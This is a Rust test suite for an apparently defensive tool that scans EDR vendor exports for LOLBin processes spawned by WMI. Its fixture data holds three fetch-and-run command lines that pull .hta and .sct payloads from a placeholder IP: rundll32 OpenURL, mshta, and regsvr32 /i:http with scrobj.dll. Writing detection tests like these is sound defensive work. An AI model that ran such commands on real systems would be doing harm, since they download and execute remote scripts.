//! `wmilolbas scan` on the EDR vendors' export layouts (the samples in
//! `tests/data/layouts/{defender,crowdstrike,carbonblack,sentinelone,cortex}`
//! and `tests/data/edr/`; each folder's README says where they come from).
//! For each layout: the direct detection, the lineage chain linked by the
//! vendor's ids, the one-row grandparent verdict (only with `--lineage`), the
//! OS PID — never the vendor's id — in `process_id`, and the host, user,
//! time and command line; the real rows read with their fields; other
//! event types counted, and no silent answer.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::util::layout_json::{field, row, rows, scan};
use crate::util::*;

/// The chain every schema-built EDR sample holds (tests/tools/mk_edr_samples.py):
/// rundll32 (direct), cmd > mshta (through a shell), notepad (benign), and
/// regsvr32 under a powershell.exe that is not in the data, whose
/// grandparent is WmiPrvSE.exe.
const NAMES: [&str; 5] = [
    "rundll32.exe",
    "cmd.exe",
    "mshta.exe",
    "notepad.exe",
    "regsvr32.exe",
];
const CMDS: [&str; 5] = [
    "rundll32.exe url.dll,OpenURL http://198.51.100.7/a.hta",
    "cmd.exe /Q /c run.bat",
    "mshta.exe http://198.51.100.7/b.hta",
    "notepad.exe C:\\Users\\alice\\notes.txt",
    "regsvr32 /s /u /i:http://198.51.100.7/c.sct scrobj.dll",
];
const PARENTS: [&str; 5] = [
    "WmiPrvSE.exe",
    "WmiPrvSE.exe",
    "cmd.exe",
    "explorer.exe",
    "powershell.exe",
];
const PIDS: [u32; 5] = [4100, 4200, 4300, 4400, 4600];
const PPIDS: [u32; 5] = [2864, 2864, 4200, 1000, 4500];
const MS: [&str; 5] = [
    "1709633701.100",
    "1709633702.200",
    "1709633702.300",
    "1709633703.400",
    "1709633704.500",
];
const US: [&str; 5] = [
    "1709633701.100000",
    "1709633702.200000",
    "1709633702.300000",
    "1709633703.400000",
    "1709633704.500000",
];
const HOST: &str = "WS01.corp.example";
const USER: &str = "CORP\\alice";

/// A vendor's process id for a PID, as the generator writes it.
type Id = fn(u32) -> String;

fn falcon(pid: u32) -> String {
    (5_642_120_000u64 + u64::from(pid)).to_string()
}

fn defender_unique(pid: u32) -> String {
    (7_000_000 + pid).to_string()
}

fn carbon_black(pid: u32) -> String {
    format!("7DESJ9GN-0060a2c4-{pid:08x}-00000000-1da6ef0{pid:08x}")
}

fn sentinelone(pid: u32) -> String {
    format!("5A1F{pid:012X}")
}

/// Cortex's instance id: base64 of 01 da 6e f0, the PID in 8 bytes, 4 zeros.
fn cortex(pid: u32) -> String {
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut bytes = vec![0x01, 0xda, 0x6e, 0xf0];
    bytes.extend_from_slice(&u64::from(pid).to_be_bytes());
    bytes.extend_from_slice(&[0; 4]);
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let n = c
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= c.len() {
                out.push(char::from(B64[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// One EDR sample and what it must give.
struct Edr<'a> {
    file: &'a str,
    args: &'a [&'a str],
    /// Events read, and process creations among them.
    events: u64,
    processes: usize,
    host: &'a str,
    user: &'a str,
    /// `parent_process_id` is the creator's PID (CrowdStrike has none).
    ppid: bool,
    times: [&'a str; 5],
    /// The vendor's process ids, when the layout has them.
    ids: Option<Id>,
    /// The fields naming the grandparent (none: the layout has none).
    grandparent: &'a [&'a str],
    /// The PID fields: without them the chain must still link by `ids`.
    pids: &'a [&'a str],
}

impl Edr<'_> {
    fn schema(file: &str) -> Edr<'_> {
        Edr {
            file,
            args: &[],
            events: 6,
            processes: 5,
            host: HOST,
            user: USER,
            ppid: true,
            times: MS,
            ids: None,
            grandparent: &[],
            pids: &[],
        }
    }

    /// The detections, every field of the rows, the chain; the same
    /// without `--lineage`, without the grandparent field, without PIDs.
    fn check(&self) {
        let file = self.file;
        let gp = !self.grandparent.is_empty();
        let mut args = vec!["--mode", "annotate", "--lineage"];
        args.extend_from_slice(self.args);
        let r = scan(file, &args);
        assert_eq!(r.code, 0, "{file}: {}", r.stderr);
        let (detections, shell) = if gp { (3, 2) } else { (2, 1) };
        assert_eq!(
            r.stderr.lines().last().unwrap(),
            format!(
                "wmilolbas scan: 1 file, {} events read ({} process creations), {detections} \
                 detections ({shell} through a shell)",
                self.events, self.processes
            ),
            "{file}: {}",
            r.stderr
        );
        assert!(!r.stderr.contains("Falcon"), "{file}: {}", r.stderr);
        let rows = rows(&r);
        assert_eq!(rows.len(), self.processes, "{file}");
        for (i, name) in NAMES.iter().enumerate().take(self.processes) {
            let row = row(&rows, name);
            let what = format!("{file} {name}");
            assert_eq!(field(row, "dest"), self.host, "{what}");
            assert_eq!(field(row, "user"), self.user, "{what}");
            assert_eq!(field(row, "process_id"), PIDS[i].to_string(), "{what}");
            let ppid = if self.ppid {
                PPIDS[i].to_string()
            } else {
                String::new()
            };
            assert_eq!(field(row, "parent_process_id"), ppid, "{what}");
            assert_eq!(field(row, "_time"), self.times[i], "{what}");
            assert_eq!(field(row, "process"), CMDS[i], "{what}");
            assert!(
                field(row, "parent_process_name").eq_ignore_ascii_case(PARENTS[i]),
                "{what}: {row}"
            );
            if let Some(id) = self.ids {
                assert_eq!(field(row, "process_guid"), id(PIDS[i]), "{what}");
                assert_eq!(field(row, "parent_process_guid"), id(PPIDS[i]), "{what}");
            }
            let reason = [
                "process_name",
                "",
                "lineage",
                "",
                if gp { "lineage" } else { "" },
            ][i];
            assert_eq!(field(row, "match_reason"), reason, "{what}");
        }
        let path = |name: &str| field(row(&rows, name), "lineage_path").to_ascii_lowercase();
        assert_eq!(path("mshta.exe"), "wmiprvse.exe > cmd.exe > mshta.exe");
        if gp {
            // One row: its parent is not in the data, its grandparent is WMI.
            assert_eq!(
                path("regsvr32.exe"),
                "wmiprvse.exe > powershell.exe > regsvr32.exe"
            );
        }
        // Without --lineage, the direct child only: the grandparent verdict
        // needs --lineage.
        let r = scan(file, self.args);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let plain = self::rows(&r);
        assert_eq!(plain.len(), 1, "{file}");
        assert!(field(&plain[0], "process_name").eq_ignore_ascii_case("rundll32.exe"));
        // Without the grandparent field: the chain still links by the
        // vendor's ids; the one-row verdict is gone.
        if gp {
            self.check_without(self.grandparent, "grandparent", false);
        }
        // Without PIDs (and the grandparent): the chain links by the ids.
        if !self.pids.is_empty() {
            let both: Vec<&str> = self.pids.iter().chain(self.grandparent).copied().collect();
            self.check_without(&both, "PIDs", true);
        }
    }

    /// The chain (mshta through cmd) is still found with `fields` removed,
    /// and only it: 2 detections, 1 through a shell.
    fn check_without(&self, fields: &[&str], what: &str, no_pids: bool) {
        let copy = without_fields(&data("layouts").join(self.file), fields);
        let mut args = vec![
            "scan",
            "--format",
            "json",
            "--mode",
            "annotate",
            "--lineage",
        ];
        args.extend_from_slice(self.args);
        args.push(copy.to_str().unwrap());
        let r = run(&args, b"");
        assert_eq!(r.code, 0, "{}: {}", self.file, r.stderr);
        assert_eq!(
            r.stderr.lines().last().unwrap(),
            format!(
                "wmilolbas scan: 1 file, {} events read ({} process creations), 2 detections \
                 (1 through a shell)",
                self.events, self.processes
            ),
            "{} without its {what}: {}",
            self.file,
            r.stderr
        );
        let rows = rows(&r);
        let mshta = row(&rows, "mshta.exe");
        assert_eq!(field(mshta, "match_reason"), "lineage", "{}", self.file);
        if no_pids {
            assert_eq!(field(mshta, "process_id"), "", "{}", self.file);
        }
        if self.processes == NAMES.len() {
            let regsvr32 = row(&rows, "regsvr32.exe");
            assert_eq!(field(regsvr32, "match_reason"), "", "{}", self.file);
        }
    }
}

/// A copy of a sample without `fields`: CSV cells blanked, JSON members
/// removed (at any depth, by key).
fn without_fields(path: &Path, fields: &[&str]) -> PathBuf {
    let text = std::fs::read_to_string(path).unwrap();
    let name = path.file_name().unwrap().to_str().unwrap();
    let out = tempdir().join(name);
    let stripped = if name.ends_with(".csv") {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let mut writer = csv::Writer::from_writer(Vec::new());
        let mut blank = Vec::new();
        for (i, record) in reader.records().enumerate() {
            let record = record.unwrap();
            if i == 0 {
                blank = record.iter().map(|h| fields.contains(&h)).collect();
                writer.write_record(&record).unwrap();
                continue;
            }
            let cells: Vec<&str> = record
                .iter()
                .zip(&blank)
                .map(|(v, b)| if *b { "" } else { v })
                .collect();
            writer.write_record(cells).unwrap();
        }
        String::from_utf8(writer.into_inner().unwrap()).unwrap()
    } else {
        fn strip(v: &mut Value, fields: &[&str]) {
            match v {
                Value::Object(o) => {
                    o.retain(|k, _| !fields.contains(&k.as_str()));
                    o.values_mut().for_each(|v| strip(v, fields));
                }
                Value::Array(a) => a.iter_mut().for_each(|v| strip(v, fields)),
                _ => {}
            }
        }
        let mut out = String::new();
        if name.ends_with(".jsonl") {
            for line in text.lines() {
                let mut v: Value = serde_json::from_str(line).unwrap();
                strip(&mut v, fields);
                out.push_str(&v.to_string());
                out.push('\n');
            }
        } else {
            let mut v: Value = serde_json::from_str(&text).unwrap();
            strip(&mut v, fields);
            out = v.to_string();
        }
        out
    };
    assert_ne!(stripped, text, "{name}: nothing removed");
    std::fs::write(&out, stripped).unwrap();
    out
}

/// A Defender sample: its host and user as the samples write them (lower
/// case), its grandparent column.
fn defender(file: &str) -> Edr<'_> {
    Edr {
        host: "ws01.corp.example",
        user: "corp\\alice",
        times: US,
        grandparent: &["InitiatingProcessParentFileName"],
        ..Edr::schema(file)
    }
}

#[test]
fn defender_portal_log_analytics_and_streaming_read_the_chain() {
    // The portal links by host + PID + time; a ProcessCreatedUsingWmiQuery
    // row first (DeviceEvents: not a process creation).
    defender("defender/advanced_hunting_portal.csv").check();
    // Log Analytics: `Timestamp [Local Time]` read in --timezone.
    Edr {
        args: &["--timezone", "-05:00"],
        events: 5,
        times: MS,
        ..defender("defender/log_analytics_local_time.csv")
    }
    .check();
    // The streaming API: records envelope, properties.*, unique ids.
    Edr {
        ids: Some(defender_unique),
        pids: &[
            "ProcessId",
            "InitiatingProcessId",
            "InitiatingProcessParentId",
        ],
        ..defender("defender/streaming_api_records.json")
    }
    .check();
}

#[test]
fn defender_other_action_types_are_counted_by_name() {
    let r = scan("defender/streaming_api_records.json", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    // One file with process creations: nothing to say but the summary.
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 1 file, 6 events read (5 process creations), 1 detection\n"
    );
    // Without them: the network record is named by its category and type.
    let dir = tempdir();
    let only = dir.join("network.json");
    let text =
        std::fs::read_to_string(data("layouts/defender/streaming_api_records.json")).unwrap();
    let mut v: Value = serde_json::from_str(&text).unwrap();
    v["records"].as_array_mut().unwrap().truncate(1);
    std::fs::write(&only, v.to_string()).unwrap();
    let r = run(&["scan", only.to_str().unwrap()], b"");
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        r.stderr.lines().next().unwrap(),
        format!(
            "wmilolbas: {}: no process creations (Defender for Endpoint streaming API): it holds \
             1 event: AdvancedHunting-DeviceNetworkEvents/ConnectionSuccess (1)",
            only.display()
        )
    );
}

#[test]
fn defender_real_rows_read_with_their_fields() {
    // The add-on's README record: AgentExecutor > powershell > whoami.
    let r = scan(
        "defender/ms365_defender_ah_ta_eventhub_record.json",
        &["--mode", "annotate"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = self::rows(&r);
    let w = row(&rows, "whoami.exe");
    assert_eq!(field(w, "dest"), "bobslaptop.example.com");
    assert_eq!(field(w, "user"), "nt authority\\system");
    assert_eq!(field(w, "process_id"), "40288");
    assert_eq!(field(w, "parent_process_id"), "39240");
    assert_eq!(field(w, "parent_process_name"), "powershell.exe");
    assert_eq!(
        field(w, "process_path"),
        "C:\\Windows\\System32\\whoami.exe"
    );
    assert_eq!(field(w, "process"), "\"whoami.exe\" /user");
    // properties.Timestamp, not the record's receive time.
    assert_eq!(field(w, "_time"), "1618426157.784932");
    // plaso's portal export of a union of tables: 2 of 4 rows are creations.
    let r = scan(
        "defender/plaso_advanced_hunting_union.csv",
        &["--mode", "annotate"],
    );
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 1 file, 4 events read (2 process creations), 0 detections\n"
    );
    let rows = self::rows(&r);
    assert_eq!(field(&rows[0], "process_name"), "CompatTelRunner.exe");
    assert_eq!(field(&rows[0], "process_id"), "11080");
    assert_eq!(field(&rows[0], "parent_process_id"), "10608");
    assert_eq!(field(&rows[0], "dest"), "test-hostname");
    assert_eq!(field(&rows[0], "_time"), "1703188590.760022");
    assert_eq!(field(&rows[0], "original_file_name"), "CompatTelRunner.exe");
    // The Log Analytics export from MDE for Linux, in --timezone.
    let r = scan(
        "defender/azure_sentinel_linux_local_time.csv",
        &["--mode", "annotate", "--timezone", "+02:00"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = self::rows(&r);
    assert_eq!(field(&rows[0], "process"), "runc init");
    assert_eq!(field(&rows[0], "process_path"), "/usr/sbin/runc");
    assert_eq!(field(&rows[0], "process_id"), "10016");
    assert_eq!(field(&rows[0], "parent_process_id"), "10016");
    // 10/25/2023, 9:43:21.975 AM at +02:00.
    assert_eq!(field(&rows[0], "_time"), "1698219801.975");
    assert!(
        r.stderr.contains(
            "times without a zone were read in the --timezone zone: 1 in Timestamp [Local Time]"
        ),
        "{}",
        r.stderr
    );
}

#[test]
fn crowdstrike_fdr_and_event_search_link_by_falcon_ids_never_as_pids() {
    // FDR: no UserName in ProcessRollup2 (the SID); ProcessStartTime, not
    // the cloud's receive time.
    Edr {
        user: "S-1-5-21-1004336348-1177238915-682003330-1104",
        ppid: false,
        ids: Some(falcon),
        grandparent: &["GrandParentBaseFileName"],
        pids: &["RawProcessId"],
        ..Edr::schema("crowdstrike/fdr_processrollup2.jsonl")
    }
    .check();
    // Event Search: _decimal ids; `_time` as displayed (zone-less, UTC).
    Edr {
        user: "alice",
        ppid: false,
        ids: Some(falcon),
        grandparent: &["GrandParentBaseFileName"],
        pids: &["RawProcessId_decimal"],
        ..Edr::schema("crowdstrike/event_search.csv")
    }
    .check();
}

#[test]
fn crowdstrike_real_event_and_the_edr_chain_read_right() {
    let run_edr = |file: &str| {
        run(
            &[
                "scan",
                "--format",
                "json",
                "--mode",
                "annotate",
                "--lineage",
                data(file).to_str().unwrap(),
            ],
            b"",
        )
    };
    // security_content's real ProcessRollup2: explorer > powershell.
    let r = run_edr("edr/crowdstrike_pr2_escu_example.json");
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = self::rows(&r);
    let ps = row(&rows, "powershell.exe");
    assert_eq!(field(ps, "process_id"), "5012");
    assert_eq!(field(ps, "parent_process_id"), "");
    assert_eq!(field(ps, "process_guid"), "5642133882");
    assert_eq!(field(ps, "parent_process_guid"), "5459598860");
    assert_eq!(field(ps, "parent_process_name"), "explorer.exe");
    assert_eq!(
        field(ps, "process_path"),
        "\\Device\\HarddiskVolume1\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    );
    // No ComputerName or UserName in it: the sensor id and the SID.
    assert_eq!(field(ps, "dest"), "168a90e125d443beb2a4e2914985084d");
    assert_eq!(
        field(ps, "user"),
        "S-1-5-21-586445407-708991241-1829972403-500"
    );
    assert_eq!(field(ps, "_time"), "1713805173.321");
    // The lead's chain: cmd > mshta by Falcon ids; rundll32 by its
    // grandparent; and no Falcon-id warning (no parent_process_id given).
    let r = run_edr("edr/crowdstrike_pr2_wmi_chain.jsonl");
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 1 file, 4 events read (4 process creations), 2 detections (2 through \
         a shell)\n"
    );
    let rows = self::rows(&r);
    assert_eq!(
        field(row(&rows, "mshta.exe"), "lineage_path"),
        "WmiPrvSE.exe > cmd.exe > mshta.exe"
    );
    assert_eq!(
        field(row(&rows, "rundll32.exe"), "lineage_path"),
        "WmiPrvSE.exe > cmd.exe > rundll32.exe"
    );
}

#[test]
fn carbon_black_forwarder_child_is_childproc_and_search_rows_are_processes() {
    // procstart: the new process is childproc_*, its user childproc_username
    // (the creator's process_username is NETWORK SERVICE for WmiPrvSE).
    Edr {
        times: US,
        ids: Some(carbon_black),
        grandparent: &["parent_path"],
        pids: &["childproc_pid", "process_pid", "parent_pid"],
        ..Edr::schema("carbonblack/forwarder_procstart.jsonl")
    }
    .check();
    for file in [
        "carbonblack/process_search_results.json",
        "carbonblack/process_search.csv",
    ] {
        Edr {
            events: 4,
            processes: 4,
            ids: Some(carbon_black),
            pids: &["process_pid", "parent_pid"],
            ..Edr::schema(file)
        }
        .check();
    }
}

#[test]
fn carbon_black_only_procstart_counts() {
    let dir = tempdir();
    let netconn = std::fs::read_to_string(data("layouts/carbonblack/forwarder_procstart.jsonl"))
        .unwrap()
        .lines()
        .next()
        .unwrap()
        .to_string();
    let f = dir.join("netconn.jsonl");
    std::fs::write(&f, format!("{netconn}\n")).unwrap();
    let r = run(&["scan", f.to_str().unwrap()], b"");
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        r.stderr,
        format!(
            "wmilolbas: {}: no process creations (Carbon Black Cloud event forwarder): it holds \
             1 event: endpoint.event.netconn (1)\n\
             wmilolbas scan: 1 file, 1 event read (0 process creations), 0 detections\n",
            f.display()
        )
    );
}

#[test]
fn carbon_black_real_search_rows_read_with_their_fields() {
    let r = scan(
        "carbonblack/stix_shifter_process_search_row.json",
        &["--mode", "annotate"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = self::rows(&r);
    let s = row(&rows, "svchost.exe");
    assert_eq!(
        field(s, "process_path"),
        "c:\\windows\\system32\\svchost.exe"
    );
    assert_eq!(field(s, "process_id"), "640");
    assert_eq!(field(s, "parent_process_id"), "556");
    assert_eq!(field(s, "dest"), "iestestmachine1");
    assert_eq!(field(s, "user"), "NT AUTHORITY\\SYSTEM");
    assert_eq!(
        field(s, "process"),
        "C:\\windows\\system32\\svchost.exe -k DcomLaunch"
    );
    assert_eq!(
        field(s, "process_guid"),
        "X79DF22N-0000368c-00000280-00000000-1d6dcd7308af9c9"
    );
    // process_start_time, the creation, before device_timestamp.
    assert_eq!(field(s, "_time"), "1609131984.450");
    // The SDK's fixture: its envelope, two PIDs (the first is read).
    let r = scan(
        "carbonblack/cbc_sdk_process_search_results.json",
        &["--mode", "annotate"],
    );
    let rows = self::rows(&r);
    let v = row(&rows, "vmtoolsd.exe");
    assert_eq!(field(v, "process_id"), "5653");
    assert_eq!(field(v, "parent_process_name"), "services.exe");
    assert_eq!(field(v, "parent_process_id"), "644");
}

#[test]
fn sentinelone_deep_visibility_and_sdl_read_target_as_the_new_process() {
    // The API's legacy `pid`/`processName` are the actor's: never read.
    Edr {
        ids: Some(sentinelone),
        grandparent: &["srcProcParentName", "srcProcParentImagePath"],
        pids: &["tgtProcPid", "srcProcPid", "srcProcParentPid"],
        ..Edr::schema("sentinelone/deep_visibility_api.json")
    }
    .check();
    Edr {
        ids: Some(sentinelone),
        grandparent: &["SrcProcParentName"],
        pids: &["TgtProcPID", "SrcProcPID"],
        ..Edr::schema("sentinelone/deep_visibility_export.csv")
    }
    .check();
    // SDL: dotted names, timestamp in nanoseconds.
    Edr {
        times: US,
        ids: Some(sentinelone),
        grandparent: &["src.process.parent.name", "src.process.parent.image.path"],
        pids: &["tgt.process.pid", "src.process.pid"],
        ..Edr::schema("sentinelone/sdl_cloud_funnel.jsonl")
    }
    .check();
}

#[test]
fn cortex_xdr_links_by_instance_ids_and_its_causality_actor_is_no_grandparent() {
    for file in ["cortex/xql_xdr_data.json", "cortex/xql_xdr_data.csv"] {
        Edr {
            ids: Some(cortex),
            pids: &["action_process_os_pid", "actor_process_os_pid"],
            ..Edr::schema(file)
        }
        .check();
    }
}

/// The case folder: vendors' files of other events are named with
/// the layout they were recognised as, and counted as passed over.
#[test]
fn edr_files_without_process_creations_are_named_with_their_layout() {
    for (file, line) in [
        (
            "sentinelone/stix_shifter_dv_ip_connect.json",
            "(SentinelOne Deep Visibility): it holds 1 event: IP Connect (1)",
        ),
        (
            "cortex/stix_shifter_xql_file_events.json",
            "(Cortex XDR xdr_data): it holds 2 events: FILE/FILE_OPEN (1), FILE/FILE_WRITE (1)",
        ),
    ] {
        let r = scan(file, &[]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert_eq!(
            r.stderr.lines().next().unwrap(),
            format!("wmilolbas: {file}: no process creations {line}")
        );
    }
    let dir = tempdir();
    for file in [
        "sentinelone/stix_shifter_dv_ip_connect.json",
        "cortex/stix_shifter_xql_file_events.json",
    ] {
        let to = dir.join(file.replace('/', "_"));
        std::fs::copy(data("layouts").join(file), to).unwrap();
    }
    std::fs::write(
        dir.join("falcon_dns.jsonl"),
        "{\"event_simpleName\":\"DnsRequest\",\"aid\":\"8c3d\",\"DomainName\":\"example.org\",\
         \"timestamp\":\"1709633700000\"}\n",
    )
    .unwrap();
    let r = run(&["scan", dir.to_str().unwrap()], b"");
    assert_eq!(r.code, 0, "{}", r.stderr);
    let d = dir.display();
    assert_eq!(
        r.stderr,
        format!(
            "wmilolbas: {d}/cortex_stix_shifter_xql_file_events.json: passed over: Cortex XDR \
             xdr_data, no process creations: it holds 2 events: FILE/FILE_OPEN (1), \
             FILE/FILE_WRITE (1)\n\
             wmilolbas: {d}/falcon_dns.jsonl: passed over: CrowdStrike Falcon, no process \
             creations: it holds 1 event: DnsRequest (1)\n\
             wmilolbas: {d}/sentinelone_stix_shifter_dv_ip_connect.json: passed over: SentinelOne \
             Deep Visibility, no process creations: it holds 1 event: IP Connect (1)\n\
             wmilolbas scan: 3 files, 4 events read (0 process creations), 0 detections; 3 files \
             passed over\n"
        )
    );
}

/// A vendor's process creation whose process fields were not read is an
/// error, never a silent zero.
#[test]
fn an_edr_process_creation_without_names_is_an_error() {
    let dir = tempdir();
    let f = dir.join("pr2.jsonl");
    std::fs::write(
        &f,
        "{\"event_simpleName\":\"ProcessRollup2\",\"aid\":\"8c3d\",\"RawProcessId\":\"4100\",\
         \"TargetProcessId\":\"5642124100\"}\n",
    )
    .unwrap();
    let r = run(&["scan", f.to_str().unwrap()], b"");
    assert_eq!(r.code, 1);
    assert_eq!(
        r.stderr,
        format!(
            "wmilolbas: {}:1: 1 process creation of CrowdStrike Falcon with neither a process \
             nor a parent name or path read (the first has the fields: event_simpleName, aid, \
             RawProcessId, TargetProcessId); the rule cannot match them\n\
             wmilolbas scan: 1 file, 1 event read (1 process creation), 0 detections, 1 error\n",
            f.display()
        )
    );
}
